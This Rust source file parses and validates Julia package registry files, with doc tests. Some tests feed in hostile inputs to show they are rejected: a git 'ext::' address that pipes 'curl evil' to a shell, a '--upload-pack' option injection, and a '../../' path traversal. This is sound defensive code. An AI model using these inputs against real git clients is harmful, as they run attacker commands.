//! What registries say, whatever the files are called that say it: packages, where their repositories are, and the trees of
//! their versions.
//!
//! Nothing here touches a file. What is read is a claim of whoever can write to the registry; whether the trees are what
//! it says is for `crate::registry` to find out.
//!
//! Source: spec/9-registries.md, REG-1 and REG-2.

use std::collections::{BTreeMap, HashMap};

use super::Ecosystem;
use crate::digest::{TreeHash, TreeHashError};
use crate::listing::{PathError, TreePath};
use crate::package::{Package, PackageError, Uuid, Version};
use crate::rule::Rule;
use crate::text;

/// How the registries of an ecosystem are laid out: which files there are, and what they say.
///
/// ```
/// use sigpkg::ecosystem::{Ecosystem as _, Julia};
///
/// let form = Julia.registry().ok_or("Julia has registries")?;
/// let index = form.read_index(
///     br#"
///     name = "General"
///     uuid = "23338594-aafe-5451-b93e-139f81909106"
///
///     [packages]
///     7876af07-990d-54b4-ab0e-23690620f79a = { name = "Example", path = "E/Example" }
///     "#,
/// )?;
/// let places: Vec<_> = index.packages.values().map(|place| place.path.as_str()).collect();
/// assert_eq!(places, ["E/Example"]); // where `form.package()` and `form.versions()` are
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
pub trait RegistryForm: Send + Sync {
    /// The file in the root that lists the packages.
    ///
    /// ```
    /// use sigpkg::ecosystem::{Ecosystem as _, Julia};
    ///
    /// let form = Julia.registry().ok_or("Julia has registries")?;
    /// assert_eq!(form.index().name, "Registry.toml");
    /// # Ok::<(), Box<dyn std::error::Error>>(())
    /// ```
    fn index(&self) -> RegistryFile;

    /// The file in the folder of a package that says who it is.
    ///
    /// ```
    /// use sigpkg::ecosystem::{Ecosystem as _, Julia};
    ///
    /// let form = Julia.registry().ok_or("Julia has registries")?;
    /// assert_eq!(form.package().name, "Package.toml");
    /// # Ok::<(), Box<dyn std::error::Error>>(())
    /// ```
    fn package(&self) -> RegistryFile;

    /// The file in the folder of a package that lists its versions.
    ///
    /// ```
    /// use sigpkg::ecosystem::{Ecosystem as _, Julia};
    ///
    /// let form = Julia.registry().ok_or("Julia has registries")?;
    /// assert_eq!(form.versions().name, "Versions.toml");
    /// # Ok::<(), Box<dyn std::error::Error>>(())
    /// ```
    fn versions(&self) -> RegistryFile;

    /// Reads the index.
    ///
    /// ```
    /// use sigpkg::ecosystem::{Ecosystem as _, Julia};
    /// use sigpkg::ecosystem::registry::FileFault;
    ///
    /// let form = Julia.registry().ok_or("Julia has registries")?;
    /// let leaves = br#"
    /// name = "General"
    /// uuid = "23338594-aafe-5451-b93e-139f81909106"
    /// packages.7876af07-990d-54b4-ab0e-23690620f79a = { name = "Example", path = "../../elsewhere" }
    /// "#;
    /// assert!(matches!(form.read_index(leaves), Err(FileFault::Path { .. })));
    /// # Ok::<(), Box<dyn std::error::Error>>(())
    /// ```
    ///
    /// # Errors
    ///
    /// - [`FileFault`] (REG-2) if it has another form, leads out of the registry, or has one id or folder twice.
    fn read_index(&self, bytes: &[u8]) -> Result<Index, FileFault>;

    /// Reads who a package is.
    ///
    /// ```
    /// use sigpkg::ecosystem::{Ecosystem as _, Julia};
    ///
    /// let form = Julia.registry().ok_or("Julia has registries")?;
    /// let found = form.read_package(
    ///     br#"
    ///     name = "Example"
    ///     uuid = "7876af07-990d-54b4-ab0e-23690620f79a"
    ///     repo = "https://git.example.org/JuliaLang/Example.jl.git"
    ///     "#,
    /// )?;
    /// assert_eq!(found.package.name().as_str(), "Example");
    /// # Ok::<(), Box<dyn std::error::Error>>(())
    /// ```
    ///
    /// # Errors
    ///
    /// - [`FileFault`] (REG-2) if it has another form, leads out of the repository, or names a program.
    fn read_package(&self, bytes: &[u8]) -> Result<PackageFile, FileFault>;

    /// Reads the versions of a package.
    ///
    /// ```
    /// use sigpkg::ecosystem::{Ecosystem as _, Julia};
    ///
    /// let form = Julia.registry().ok_or("Julia has registries")?;
    /// let versions = form.read_versions(b"[\"0.5.3\"]\ngit-tree-sha1 = \"46e44e869b4d90b96bd8ed1fdcf32244fddfb6cc\"\n")?;
    /// assert_eq!(versions.get(&Julia.version("0.5.3")?).map(|entry| entry.yanked), Some(false));
    /// # Ok::<(), Box<dyn std::error::Error>>(())
    /// ```
    ///
    /// # Errors
    ///
    /// - [`FileFault`] (REG-2) if it has another form, or one version in two spellings.
    fn read_versions(&self, bytes: &[u8]) -> Result<Versions, FileFault>;
}

/// A file of a registry.
///
/// ```
/// use sigpkg::ecosystem::registry_forms;
///
/// for form in registry_forms() {
///     let index = form.index();
///     assert!(!index.name.contains('/') && index.max_bytes > 0);
/// }
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct RegistryFile {
    /// Its name.
    pub name: &'static str,
    /// The most bytes that are read of it.
    pub max_bytes: u64,
}

/// The longest address of a repository, in bytes: what browsers and servers take for an address.
const MAX_ADDRESS_BYTES: usize = 2048;

/// What the index of a registry says.
///
/// ```
/// use sigpkg::ecosystem::{Ecosystem as _, Julia};
///
/// let form = Julia.registry().ok_or("Julia has registries")?;
/// let empty = form.read_index(b"name = \"Mine\"\nuuid = \"23338594-aafe-5451-b93e-139f81909106\"\n")?;
/// assert_eq!((empty.name.as_str(), empty.packages.len()), ("Mine", 0));
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Index {
    /// The name of the registry.
    pub name: String,
    /// The id of the registry.
    pub uuid: Uuid,
    /// Its packages.
    pub packages: BTreeMap<Uuid, Place>,
}

/// Where the files of a package are.
///
/// ```
/// use sigpkg::ecosystem::registry::Place;
/// use sigpkg::listing::TreePath;
///
/// let place = Place { name: "Example".to_owned(), path: TreePath::parse(b"E/Example")? };
/// assert_eq!(format!("{}/Versions.toml", place.path), "E/Example/Versions.toml");
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Place {
    /// The name that the index gives the package.
    pub name: String,
    /// The folder of its files, from the root of the registry.
    pub path: TreePath,
}

/// What a registry says of a package.
///
/// ```
/// use sigpkg::ecosystem::{Ecosystem as _, Julia};
///
/// let form = Julia.registry().ok_or("Julia has registries")?;
/// let found = form.read_package(
///     br#"
///     name = "Example"
///     uuid = "7876af07-990d-54b4-ab0e-23690620f79a"
///     repo = "https://example.org/monorepo.git"
///     subdir = "packages/Example"
///     "#,
/// )?;
/// assert_eq!(found.subdirectory.map(|path| path.to_string()).as_deref(), Some("packages/Example"));
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct PackageFile {
    /// The package.
    pub package: Package,
    /// The address of its repository.
    pub repository: Option<Address>,
    /// The folder of the package in its repository, if that is not its root.
    pub subdirectory: Option<TreePath>,
}

/// The address of a git repository as a registry may have it: no option, and no program to be run.
///
/// ```
/// use sigpkg::ecosystem::registry::Address;
///
/// let address = Address::read("https://git.example.org/JuliaLang/Example.jl.git")?;
/// assert_eq!(address.as_str(), "https://git.example.org/JuliaLang/Example.jl.git");
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Address(String);

/// What a registry says of one version.
///
/// ```
/// use sigpkg::ecosystem::{Ecosystem as _, Julia};
///
/// let form = Julia.registry().ok_or("Julia has registries")?;
/// let file = b"[\"0.5.2\"]\ngit-tree-sha1 = \"46e44e869b4d90b96bd8ed1fdcf32244fddfb6cc\"\nyanked = true\n";
/// let entry = form.read_versions(file)?.get(&Julia.version("0.5.2")?).ok_or("no such version")?;
/// assert!(entry.yanked);
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct VersionEntry {
    /// The tree, as git names it.
    pub tree: TreeHash,
    /// Whether the registry has yanked it.
    pub yanked: bool,
}

/// The versions of a package that a registry has.
///
/// ```
/// use sigpkg::ecosystem::Julia;
/// use sigpkg::ecosystem::registry::{VersionEntry, Versions};
/// use sigpkg::package::{EcosystemName, Version};
///
/// let entry = VersionEntry { tree: "46e44e869b4d90b96bd8ed1fdcf32244fddfb6cc".parse()?, yanked: false };
/// let version = |text| Version::new(EcosystemName::Julia, text);
/// let versions = Versions::of([(version("0.10.0")?, entry), (version("0.9.0")?, entry)], &Julia);
/// // In the order of Julia, not of letters.
/// assert_eq!(versions.iter().map(|(version, _)| version.as_str()).collect::<Vec<_>>(), ["0.9.0", "0.10.0"]);
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Versions {
    /// In the order of versions.
    sorted: Vec<(Version, VersionEntry)>,
    by_version: HashMap<Version, usize>,
}

/// What is wrong with a file of a registry (REG-2).
///
/// ```
/// use sigpkg::ecosystem::registry::{Address, FileFault};
///
/// let error = Address::read("ext::sh -c 'curl evil | sh'").unwrap_err();
/// assert!(matches!(error, FileFault::Address { .. })); // git would run it
/// ```
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum FileFault {
    /// It is no TOML in UTF-8.
    #[error("expected TOML, found a fault: {reason}")]
    Syntax {
        /// What the parser says, on one line.
        reason: String,
    },
    /// A key is missing, or has a value of another type.
    #[error("expected {expected} for \"{}\", found {found}", text::printable(.key))]
    Key {
        /// The key.
        key: String,
        /// What should be there.
        expected: &'static str,
        /// What is there.
        found: &'static str,
    },
    /// A name, id or version has another form.
    #[error(transparent)]
    Value(#[from] PackageError),
    /// A tree hash has another form.
    #[error("version {version}: {error}")]
    Tree {
        /// The version.
        version: Version,
        /// What is wrong.
        error: TreeHashError,
    },
    /// A path leaves the registry or the repository, or is no path on some system.
    #[error("{what}: {error}")]
    Path {
        /// What has the path.
        what: String,
        /// What is wrong with it.
        error: PathError,
    },
    /// The address of the repository is one that no registry needs.
    #[error("expected the address of a git repository, found \"{}\" ({problem})", text::printable(.found))]
    Address {
        /// What is there.
        found: String,
        /// What is wrong with it.
        problem: &'static str,
    },
    /// Two things that must differ are one.
    #[error("\"{}\" and \"{}\" are one {what}", text::printable(.first), text::printable(.second))]
    Twice {
        /// What they are.
        what: &'static str,
        /// The first, as written.
        first: String,
        /// The second, as written.
        second: String,
    },
}

impl Address {
    /// Takes an address that is no option of a program, and names no program.
    ///
    /// ```
    /// use sigpkg::ecosystem::registry::Address;
    ///
    /// assert!(Address::read("git@git.example.org:JuliaLang/Example.jl.git").is_ok());
    /// assert!(Address::read("--upload-pack=touch /tmp/pwned").is_err());
    /// ```
    ///
    /// # Errors
    ///
    /// - [`FileFault::Address`] if it begins with `-`, is empty or too long, holds a blank, a control or a hidden
    ///   character, or has the form `helper::address`
    pub fn read(written: &str) -> Result<Self, FileFault> {
        let fault = |problem| FileFault::Address { found: written.chars().take(100).collect(), problem };
        let before_slash = written.split('/').next().unwrap_or_default();
        if written.is_empty() || written.len() > MAX_ADDRESS_BYTES {
            Err(fault("it is empty or has more than 2048 bytes"))
        } else if written.starts_with('-') {
            Err(fault("it begins like an option"))
        } else if !written.chars().all(|character| text::is_plain(character) && !character.is_whitespace()) {
            Err(fault("it has a blank, a control or a hidden character"))
        } else if before_slash.contains("::") {
            Err(fault("git would run a helper program for it"))
        } else {
            Ok(Self(written.to_owned()))
        }
    }

    /// The address as text.
    ///
    /// ```
    /// use sigpkg::ecosystem::registry::Address;
    ///
    /// assert_eq!(Address::read("https://example.org/x.git")?.as_str(), "https://example.org/x.git");
    /// # Ok::<(), Box<dyn std::error::Error>>(())
    /// ```
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl Versions {
    /// Puts versions in the order of their ecosystem; those that it does not order, in that of their text.
    ///
    /// ```
    /// use sigpkg::ecosystem::Generic;
    /// use sigpkg::ecosystem::registry::Versions;
    ///
    /// assert!(Versions::of([], &Generic).is_empty());
    /// ```
    pub fn of(versions: impl IntoIterator<Item = (Version, VersionEntry)>, ecosystem: &dyn Ecosystem) -> Self {
        let mut sorted: Vec<_> = versions.into_iter().collect();
        sorted.sort_by(|(left, _), (right, _)| {
            let order = ecosystem.compare(left, right).unwrap_or(std::cmp::Ordering::Equal);
            order.then_with(|| left.as_str().cmp(right.as_str()))
        });
        let by_version = sorted.iter().enumerate().map(|(index, (version, _))| (version.clone(), index)).collect();
        Self { sorted, by_version }
    }

    /// The versions, in their order.
    ///
    /// ```
    /// # use sigpkg::{ecosystem::Julia, ecosystem::registry::{VersionEntry, Versions}, package::{EcosystemName, Version}};
    /// # let entry = VersionEntry { tree: "46e44e869b4d90b96bd8ed1fdcf32244fddfb6cc".parse()?, yanked: false };
    /// # let version = |text| Version::new(EcosystemName::Julia, text);
    /// let versions = Versions::of([(version("0.5.3")?, entry), (version("0.5.1")?, entry)], &Julia);
    /// let newest = versions.iter().next_back().map(|(version, _)| version.as_str());
    /// assert_eq!(newest, Some("0.5.3"));
    /// # Ok::<(), Box<dyn std::error::Error>>(())
    /// ```
    pub fn iter(&self) -> impl DoubleEndedIterator<Item = (&Version, VersionEntry)> {
        self.sorted.iter().map(|(version, entry)| (version, *entry))
    }

    /// What is said of one version.
    ///
    /// ```
    /// # use sigpkg::{ecosystem::Julia, ecosystem::registry::{VersionEntry, Versions}, package::{EcosystemName, Version}};
    /// # let entry = VersionEntry { tree: "46e44e869b4d90b96bd8ed1fdcf32244fddfb6cc".parse()?, yanked: false };
    /// # let version = |text| Version::new(EcosystemName::Julia, text);
    /// let versions = Versions::of([(version("0.5.3")?, entry)], &Julia);
    /// assert_eq!(versions.get(&version("0.5.3")?), Some(entry));
    /// assert_eq!(versions.get(&version("6.6.6")?), None);
    /// # Ok::<(), Box<dyn std::error::Error>>(())
    /// ```
    pub fn get(&self, version: &Version) -> Option<VersionEntry> {
        let (_, entry) = self.sorted.get(*self.by_version.get(version)?)?;
        Some(*entry)
    }

    /// Where a version stands in their order, from 0.
    ///
    /// ```
    /// # use sigpkg::{ecosystem::Julia, ecosystem::registry::{VersionEntry, Versions}, package::{EcosystemName, Version}};
    /// # let entry = VersionEntry { tree: "46e44e869b4d90b96bd8ed1fdcf32244fddfb6cc".parse()?, yanked: false };
    /// # let version = |text| Version::new(EcosystemName::Julia, text);
    /// let versions = Versions::of([(version("0.10.0")?, entry), (version("0.9.0")?, entry)], &Julia);
    /// assert_eq!(versions.position(&version("0.10.0")?), Some(1));
    /// # Ok::<(), Box<dyn std::error::Error>>(())
    /// ```
    pub fn position(&self, version: &Version) -> Option<usize> {
        self.by_version.get(version).copied()
    }

    /// How many there are.
    ///
    /// ```
    /// assert_eq!(sigpkg::ecosystem::registry::Versions::default().len(), 0);
    /// ```
    pub fn len(&self) -> usize {
        self.sorted.len()
    }

    /// Whether there is none.
    ///
    /// ```
    /// assert!(sigpkg::ecosystem::registry::Versions::default().is_empty());
    /// ```
    pub fn is_empty(&self) -> bool {
        self.sorted.is_empty()
    }
}

impl FileFault {
    /// The rule that is broken.
    ///
    /// ```
    /// use sigpkg::ecosystem::registry::Address;
    /// use sigpkg::rule::Rule;
    ///
    /// assert_eq!(Address::read("").unwrap_err().rule(), Rule::Reg2);
    /// ```
    pub const fn rule(&self) -> Rule {
        Rule::Reg2
    }
}
